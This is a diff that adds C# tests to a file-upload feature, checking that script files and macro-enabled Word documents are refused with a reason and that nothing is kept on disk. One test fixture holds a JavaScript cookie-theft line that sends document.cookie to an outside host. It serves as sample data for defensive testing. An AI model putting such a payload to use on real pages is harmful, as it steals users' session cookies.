@@ -70,6 +70,30 @@ public sealed class UploadEvidenceTests(SmallUploadsApp app) : IClassFixture<Sma
         Assert.Empty(Directory.Exists(temporary) ? Directory.GetFiles(temporary) : []);
     }
 
+    public static TheoryData<string, byte[], string> ActiveContent => new()
+    {
+        { "helper.js", Encoding.UTF8.GetBytes("document.location = 'https://example.org/?' + document.cookie;"), "Files ending .js are not accepted" },
+        { "plan.docm", Storage.SampleFiles.Docx("Agreed steps"), "can hold macros" },
+        { "plan.docx", Storage.SampleFiles.DocxWithMacros("Agreed steps"), "can hold macros" },
+    };
+
+    [Theory]
+    [MemberData(nameof(ActiveContent))]
+    public async Task Script_files_and_documents_with_macros_are_refused_with_a_reason_and_nothing_is_kept(
+        string name, byte[] content, string reason)
+    {
+        var (_, id, client) = await DraftAsync();
+
+        var response = await UploadAsync(client, id, name, content);
+
+        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
+        Assert.Contains(Html.Errors(await Html.ParseAsync(response)), e => e.Contains(reason, StringComparison.Ordinal));
+        Assert.Equal(0, await FilesAsync(id));
+        var sha = Convert.ToHexStringLower(System.Security.Cryptography.SHA256.HashData(content));
+        Assert.False(File.Exists(Path.Combine(app.FilesFolder, sha[..2], sha[2..4], sha)));
+        Assert.Empty(Directory.GetFiles(Path.Combine(app.FilesFolder, "tmp")));
+    }
+
     [Fact]
     public async Task An_empty_file_is_refused()
     {
